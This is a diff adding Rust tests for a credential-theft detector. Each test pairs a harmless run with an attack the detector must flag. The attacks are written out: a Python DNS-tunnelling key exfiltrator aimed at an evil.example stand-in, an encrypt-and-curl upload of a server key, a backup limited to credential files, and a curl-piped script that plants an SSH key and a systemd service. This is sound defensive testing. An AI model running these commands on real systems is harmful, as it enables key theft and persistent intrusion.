@@ -645,3 +645,151 @@ pub fn what_was_left_behind() {
     });
     acquitted(&agent, done.pid);
 }
+
+/// torchtriton 2022: a module reads keys when it is imported, and sends them as names that it asks the DNS for, in a form of its
+/// own. A program that reads its key and asks for hosts gives nothing.
+pub fn a_module_asks_the_dns() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let ssh = scratch.make("home/.ssh");
+    act("ssh-keygen")
+        .args(["-q", "-N", "", "-t", "rsa", "-f"])
+        .arg(ssh.join("id_rsa"))
+        .run()
+        .ok();
+    let ask = "import base64, os, socket, sys
+key = open(os.environ['HOME'] + '/.ssh/id_rsa', 'rb').read()
+text = base64.b32encode(bytes(b ^ 0x5a for b in key)).decode().rstrip('=').lower()
+long = [f'{text[i:i + 60]}.{i}.evil.example' for i in range(0, len(text) - 60, 60)]
+short = [f'node{n}.eu-west-1.corp.example' for n in range(40)]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for name in (long if sys.argv[1] == 'long' else short):
+    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
+    try:
+        s.sendto(os.urandom(2) + bytes.fromhex('01000001000000000000') + labels + bytes.fromhex('0000010001'), ('127.0.0.1', 53))
+    except OSError:
+        pass";
+    let python = |names: &str| {
+        let asking = act("python3").args(["-c", ask, names]);
+        asking.env("HOME", scratch.join("home")).run().ok()
+    };
+    let twin = python("short");
+    let read = |pid: u32| {
+        agent.expect("the read", pid, |e| {
+            e.is("credential_read") && e.pid() == pid
+        });
+    };
+    read(twin.pid);
+    acquitted(&agent, twin.pid);
+    let sent = of_kind(&agent.tree(twin.pid), "credential_sent");
+    assert!(sent.is_empty(), "{}", list(&sent));
+    let attack = python("long");
+    found(&agent, attack.pid, "dns-tunnel");
+}
+
+/// Keys of a server encrypted by a script and sent; the same key used to sign what is sent gives nothing.
+pub fn a_script_encrypts_a_servers_key() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    // Not in a place for temporary files.
+    let place = tempfile::Builder::new()
+        .prefix("keytrail-test-")
+        .tempdir_in("/srv")
+        .unwrap();
+    let key = place.path().join("server.key");
+    act("openssl")
+        .args(["genrsa", "-out"])
+        .arg(&key)
+        .arg("2048")
+        .run()
+        .ok();
+    let url = format!("http://127.0.0.1:{}/in", sink.port);
+    let run = |text: &str| {
+        let script = act("bash").args(["-c", text, "x"]).arg(&key).arg(&url);
+        script.run().ok()
+    };
+    let twin =
+        run("echo order | openssl dgst -sha256 -sign \"$1\" | curl -s --data-binary @- \"$2\"; :");
+    acquitted(&agent, twin.pid);
+    let attack = run(
+        "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in \"$1\" | curl -s --data-binary @- \"$2\"; :",
+    );
+    found(&agent, attack.pid, "uploaded");
+}
+
+/// Akira and others, who bring what backups are made with: told to keep keys and nothing else. A backup of a home gives nothing.
+pub fn a_backup_of_keys_alone() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("keys"));
+    for place in [".a/.netrc", ".b/.npmrc", ".c/.slack"] {
+        let to = home.dir.join(place);
+        fs::create_dir_all(to.parent().unwrap()).unwrap();
+        fs::rename(home.dir.join(&place[3..]), to).unwrap();
+    }
+    let repository = scratch.join("repository");
+    let restic = |places: &[&str]| {
+        let command = act("restic")
+            .args(["-q", "--no-cache", "-r"])
+            .arg(&repository);
+        command
+            .args(places)
+            .current_dir(&home.dir)
+            .env("RESTIC_PASSWORD_COMMAND", "echo x")
+            .env("HOME", scratch.path())
+            .limit(60)
+            .run()
+            .ok()
+    };
+    restic(&["init"]);
+    let twin = restic(&["backup", "."]);
+    acquitted(&agent, twin.pid);
+    let attack = restic(&["backup", "--force", "./.aws", "./.a", "./.b", "./.c"]);
+    found(&agent, attack.pid, "bulk-harvest");
+}
+
+/// What `curl | bash` brings, which takes nothing: it lets somebody in, and stays. A person's own start-up file, and a key that is
+/// added, give nothing.
+pub fn what_was_downloaded_stays() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    // A place that counts as a home; gone with the test.
+    let home = PathBuf::from(format!("/home/kt{}", std::process::id()));
+    struct Remove<'a>(&'a Path);
+    impl Drop for Remove<'_> {
+        fn drop(&mut self) {
+            let _ = fs::remove_dir_all(self.0);
+        }
+    }
+    let _remove = Remove(&home);
+    for place in [".ssh", ".config/systemd/user"] {
+        fs::create_dir_all(home.join(place)).unwrap();
+    }
+    let install = scratch.join("install.sh");
+    let run = |text: &str| {
+        fs::write(&install, text).unwrap();
+        let piped = act("bash").args(["-c", "curl -s \"file://$1\" | bash; :", "x"]);
+        piped.arg(&install).env("HOME", &home).run().ok()
+    };
+    let key = "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x' >> ~/.ssh/authorized_keys\n";
+    let written = |pid: u32, name: &str| {
+        agent.expect(name, pid, |e| {
+            e.is("persistence_written") && e.in_tree(pid) && e.path().ends_with(name)
+        });
+    };
+    let one = run(key);
+    written(one.pid, "/authorized_keys");
+    acquitted(&agent, one.pid);
+    let two = run("echo 'alias ll=ls' >> ~/.bashrc; echo x > ~/.config/systemd/user/a.service\n");
+    written(two.pid, "/a.service");
+    acquitted(&agent, two.pid);
+    let attack = run(&format!(
+        "{key}printf '[Service]\\nExecStart=/bin/true\\n' > ~/.config/systemd/user/sysmon.service\nsleep 1\n"
+    ));
+    found(&agent, attack.pid, "persistence");
+}
